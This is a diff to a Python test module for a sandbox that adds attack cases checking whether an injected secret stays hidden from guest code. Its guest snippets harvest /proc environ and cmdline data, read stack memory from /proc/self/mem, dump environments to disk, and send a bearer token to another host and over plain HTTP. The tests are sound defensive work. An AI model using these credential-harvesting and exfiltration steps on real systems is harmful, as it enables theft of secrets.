@@ -1,12 +1,147 @@
-"""I: secrets. This version injects none, so what is tried is that those of the host's user cannot be reached."""
+"""I: secrets. The guest has a placeholder; the value is at its own host, and nowhere else.
+
+The arm without the control does what is done without the gateway: it hands the guest the value itself.
+"""
 
 from __future__ import annotations
 
-from ringfence.attacks.case import BARE, LEAK, Seen, attack, cases, not_applicable
+from ringfence.attacks.case import BARE, LEAK, OURS, Seen, attack, cases, not_applicable
+from ringfence.policy.secrets import Secret
 
 TYPE_CHECKING = False
 if TYPE_CHECKING:
     from ringfence.attacks.arena import Arm
+    from ringfence.attacks.web import Echo
+    from ringfence.policy.model import Policy
+
+_LABEL = "placeholder"
+
+
+def _given(arm: Arm, server: Echo) -> Policy:
+    """The canary as TOKEN: a secret, or in the arm without the control a plain variable."""
+    from ringfence.attacks import web
+
+    if arm.off:
+        return web.policy(server).replace(env={"TOKEN": arm.canary})
+    return web.policy(server, Secret("TOKEN", arm.canary, hosts=[web.HOST]))
+
+
+_ENVIRON = """
+import subprocess
+subprocess.run([sys.executable, "-c", "import time; time.sleep(0.2)"])
+for pid in os.listdir("/proc"):
+    if pid.isdigit(): steal(f"/proc/{pid}/environ")
+loot(str(dict(os.environ)))
+with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb") as memory:
+    for line in maps:
+        ends = line.split()[0].split("-")
+        if "[stack]" in line:
+            memory.seek(int(ends[0], 16)); loot(memory.read(int(ends[1], 16) - int(ends[0], 16))[-65536:])
+"""
+
+
+@attack("I01", "a secret is in no environment inside, nor on a stack", LEAK, off=OURS, needs="network", label=_LABEL)
+def environment(arm: Arm) -> Seen:
+    from ringfence.attacks import web
+
+    told = arm.python(_ENVIRON, policy=_given(arm, web.echo(arm)))
+    return arm.stolen(told)
+
+
+_ARGUMENTS = """
+import subprocess
+child = subprocess.Popen(["sleep", "5", os.environ["TOKEN"]])
+for pid in os.listdir("/proc"):
+    if pid.isdigit(): steal(f"/proc/{pid}/cmdline")
+child.kill(); child.wait()
+"""
+
+
+@attack("I02", "a secret is in nobody's arguments", LEAK, off=OURS, needs="network", label=_LABEL)
+def arguments(arm: Arm) -> Seen:
+    from ringfence.attacks import web
+
+    told = arm.python(_ARGUMENTS, policy=_given(arm, web.echo(arm)))
+    return arm.stolen(told)
+
+
+_LOGGED = """
+token = os.environ["TOKEN"]
+asked = f"GET /{token}?key={token} HTTP/1.1\\r\\nHost: {host}\\r\\nAuthorization: Bearer {token}\\r\\n"
+attempt("request", fetch, host, port, asked + "Connection: close\\r\\n\\r\\n")
+attempt("bad request", fetch, host, port, f"GET {token} HTTP/1.1\\r\\n{token}\\r\\n\\r\\n")
+"""
+
+
+@attack("I03", "a secret is in no log, result or denial", LEAK, off=OURS, needs="network", label=_LABEL)
+def logs(arm: Arm) -> Seen:
+    """The witness is all that the caller is given, and the server, which must have had the value."""
+    from ringfence.attacks import web
+    from ringfence.policy.model import Rule
+
+    server = web.echo(arm)
+    policy = _given(arm, server)
+    rule = Rule(f"{web.HOST}:{server.port}", methods=["GET"])  # so that requests are read in both arms
+    policy = policy.replace(network=web.policy(server, rules=(rule,), allow=()).network)
+    box = arm.sandbox(policy)
+    told = arm.python(web.FETCH + _LOGGED, box=box, host=web.HOST, port=server.port)
+    assert told.result is not None
+    seen = [told.result.to_dict(), told.result.render(), box.network.log(), box.network.summary(), box.denials()]
+    if arm.canary.encode() not in server.heard:
+        raise AssertionError("the value never went out, so nothing could have been logged")
+    return Seen(arm.canary in str(seen), f"{len(box.network.log())} lines; {told.words()}")
+
+
+_DUMP = """
+with open("/workspace/dump", "wb") as file:
+    file.write(str(dict(os.environ)).encode())
+    for pid in os.listdir("/proc"):
+        if pid.isdigit():
+            try: file.write(slurp(f"/proc/{pid}/environ"))
+            except OSError: pass
+tell(dumped=1)
+"""
+
+
+@attack("I04", "a secret is in nothing that the guest can leave behind", LEAK, off=OURS, needs="network", label=_LABEL)
+def left_behind(arm: Arm) -> Seen:
+    """What a snapshot would hold: the workspace, and the trusted roots, read from outside."""
+    from ringfence.attacks import web
+    from ringfence.network.trust import BUNDLE, JAVA_STORE
+
+    box = arm.sandbox(_given(arm, web.echo(arm)))
+    told = arm.python(_DUMP, box=box)
+    kept = box.files.read("/workspace/dump")
+    for path in (BUNDLE, JAVA_STORE):
+        if box.files.exists(path):
+            kept += box.files.read(path)
+    return Seen(arm.canary.encode() in kept, f"{len(kept)} bytes; {told.words()}")
+
+
+_ELSEWHERE = """
+token = os.environ["TOKEN"]
+for name, secure in ((other, True), (host, False), (other, False)):
+    lines = ["GET / HTTP/1.1", f"Host: {name}:{port}", f"Authorization: Bearer {token}", "Connection: close", "", ""]
+    asked = "\\r\\n".join(lines)
+    attempt(f"{name} {'TLS' if secure else 'plain'}", fetch, name, port, asked, secure)
+"""
+
+
+@attack("I05", "a secret goes to its own host over TLS alone", LEAK, off=OURS, needs="network", label="swap by host")
+def elsewhere(arm: Arm) -> Seen:
+    """To another host and in plain HTTP. The server is the same one: it notes what it is sent."""
+    from ringfence.attacks import web
+    from ringfence.policy.model import Rule
+
+    server = web.echo(arm)
+    policy = _given(arm, server)
+    rule = Rule(f"{web.OTHER}:{server.port}", methods=["GET"])
+    if not arm.off:
+        policy = policy.replace(network=web.policy(server, rules=(rule,)).network)
+    else:
+        policy = policy.replace(network=web.policy(server, allow=(web.HOST, web.OTHER)).network)
+    told = arm.python(web.FETCH + _ELSEWHERE, policy=policy, host=web.HOST, other=web.OTHER, port=server.port)
+    return Seen(arm.canary.encode() in server.heard + server.plain, told.words())
 
 
 _KEYS = """
@@ -38,16 +173,8 @@ def agent_socket(arm: Arm) -> Seen:
     return Seen(bool(came), f"{len(came)} connections; {told.words()}")
 
 
-_LATER = "secrets are not in this version"
 ELSEWHERE = [
-    not_applicable(
-        "I01", "a secret is not in a child's environment", LEAK, f"{_LATER}; the supervisor's own: H01, H12"
-    ),
-    not_applicable("I02", "a secret is not in anybody's arguments", LEAK, f"{_LATER}; the supervisor's own: H12"),
-    not_applicable("I03", "a secret is in no log", LEAK, _LATER),
-    not_applicable("I04", "a secret is in no snapshot", LEAK, _LATER),
-    not_applicable("I05", "a secret goes to its own host alone", LEAK, _LATER),
-    not_applicable("I06", "a guest that has a secret can tell it", LEAK, "cannot be stopped: documented"),
+    not_applicable("I06", "a guest that has a secret can tell it", LEAK, "cannot be stopped: docs/secrets.md says so"),
 ]
 
 CASES = cases(globals())
